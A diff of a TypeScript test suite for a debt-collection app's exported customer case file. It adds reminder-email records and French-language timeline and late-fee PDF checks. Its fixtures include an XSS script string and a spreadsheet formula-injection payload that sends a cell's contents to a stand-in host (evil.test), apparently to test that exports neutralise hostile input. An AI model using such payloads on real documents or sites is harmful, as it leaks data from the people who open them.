@@ -11,6 +11,7 @@ import { createDebtorRequest } from '../src/adapters/db/stores/debtor-requests.j
 import { createInvoice, createPayment, insertAllocation } from '../src/adapters/db/stores/documents.js';
 import { putInvoiceFile } from '../src/adapters/db/stores/invoice-files.js';
 import { createOrganization } from '../src/adapters/db/stores/organizations.js';
+import { pdfWords } from '../src/adapters/channels/pdf-words.test-support.js';
 import { createUser } from '../src/adapters/db/stores/users.js';
 import { enqueueMessage } from '../src/app/outbox/enqueue-message.js';
 import { buildApp } from '../src/http/build-app.js';
@@ -24,14 +25,25 @@ const TODAY = '2025-03-10';
 const SCRIPT = '<script>alert("owned")</script>';
 const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click to pay")';
 const LETTER_PDF = Buffer.from('%PDF-1.4\n% formal notice as posted\n%%EOF\n');
+const REMINDER_EML = Buffer.from('Subject: Facture F-1 échue\r\n\r\nBonjour\r\n');
 const INVOICE_PDF = Buffer.from('%PDF-1.4\n% invoice F-1\n%%EOF\n');
+
+interface Proof {
+  path: string;
+  channel: string;
+  status: string;
+  sent_on: string | null;
+  status_words: { en: string; fr: string };
+  provider_reference: string | null;
+}
 
 interface Manifest {
   generated_on: string;
   customer: { reference: string; name: string };
   creditor: { legal_name: string };
   figures: { currency: string; balance: string; overdue: string; interest: string | null; indemnity: string; total: string | null };
-  letters: { path: string; channel: string; status: string; sent_on: string | null; status_words: { en: string; fr: string } }[];
+  letters: Proof[];
+  emails: Proof[];
   files: { path: string; description: { en: string; fr: string }; sha256: string; size: number }[];
 }
 
@@ -79,6 +91,14 @@ describe.each(ENGINES)('the customer case file (dossier) on %s', (engine) => {
       sender: { name: 'Alpha Industries' }, subject: 'Mise en demeure', text: 'Formal notice', invoiceIds: [f1.id], notBefore: '2025-03-05T08:00:00Z',
     });
     await db.kysely.updateTable('outbox_messages').set({ status: 'sent', sent_at: '2025-03-05T08:01:00Z', document_path: letterPath }).where('id', '=', letter.id).execute();
+
+    const emailPath = join(folder, 'reminder.eml');
+    writeFileSync(emailPath, REMINDER_EML);
+    const email = await enqueueMessage(db, org.id, {
+      actionId: 'action-reminder-1', customerId, channel: 'email', recipient: { email: 'ap@dupont.test' },
+      sender: { name: 'Alpha Industries' }, subject: 'Facture F-1 échue', text: 'Reminder', invoiceIds: [f1.id], notBefore: '2025-02-10T08:00:00Z',
+    });
+    await db.kysely.updateTable('outbox_messages').set({ status: 'sent', sent_at: '2025-02-10T08:01:00Z', document_path: emailPath, provider_message_id: '<r1@alpha.test>' }).where('id', '=', email.id).execute();
 
     await createDebtorRequest(db, org.id, { customerId, kind: 'question', status: 'open', payload: {}, message: `${FORMULA} ${SCRIPT}`, createdOn: '2025-03-06' });
     bravoCustomerId = (await createCustomer(db, bravo.id, { externalRef: 'B-1', name: 'Bravo Client' })).id;
@@ -131,13 +151,15 @@ describe.each(ENGINES)('the customer case file (dossier) on %s', (engine) => {
     expect(manifest.generated_on).toBe(TODAY);
   });
 
-  it('holds the registered letter as posted, with the day it went and its status in words', () => {
+  it('holds the registered letter as posted and the reminder email as sent, each with the day it went and its status in words', () => {
     const { files, manifest } = open(zip);
     expect(manifest.letters).toHaveLength(1);
     const [letter] = manifest.letters;
     expect(letter).toMatchObject({ channel: 'registered_letter', status: 'sent', sent_on: '2025-03-05' });
     expect(letter!.status_words.en).toMatch(/sent/i);
     expect(Buffer.from(files[letter!.path]!)).toEqual(LETTER_PDF);
+    expect(manifest.emails).toEqual([expect.objectContaining({ channel: 'email', status: 'sent', sent_on: '2025-02-10', provider_reference: '<r1@alpha.test>' })]);
+    expect(Buffer.from(files[manifest.emails[0]!.path]!)).toEqual(REMINDER_EML);
   });
 
   it('states the figures the API reports: balance of the statement, interest and indemnity of the late fees', async () => {
@@ -173,6 +195,24 @@ describe.each(ENGINES)('the customer case file (dossier) on %s', (engine) => {
       ['1', '2025-03-31', '350.00'],
       ['2', '2025-04-30', '350.00'],
     ]);
+  });
+
+  it('writes the timeline oldest first with dates in words, and the late fees per rate period, in the creditor\'s language', async () => {
+    const { files } = open(zip);
+    const timeline = (await pdfWords(Buffer.from(files['timeline.pdf']!))).join(' ');
+    expect(timeline).toContain('Historique des échanges');
+    expect(timeline).toMatch(/3 février 2025/);
+    // Past the heading ("Au 10 mars 2025"), the payment of 3 February comes before the dispute of 10 March.
+    const table = timeline.slice(timeline.indexOf('Événement'));
+    expect(table.indexOf('3 février 2025')).toBeGreaterThan(0);
+    expect(table.indexOf('3 février 2025')).toBeLessThan(table.indexOf('10 mars 2025'));
+    const fees = (await admin.get(`/api/customers/${customerId}/late-fees`)).json();
+    const lateFees = (await pdfWords(Buffer.from(files['late-fees.pdf']!))).join(' ');
+    for (const invoice of fees.invoices) {
+      expect(lateFees).toContain(`Facture ${invoice.number}`);
+      expect(lateFees).toContain(`${invoice.days_late} jours de retard`);
+    }
+    expect(lateFees).toContain('40,00');
   });
 
   it("refuses another organization's customer as not found", async () => {
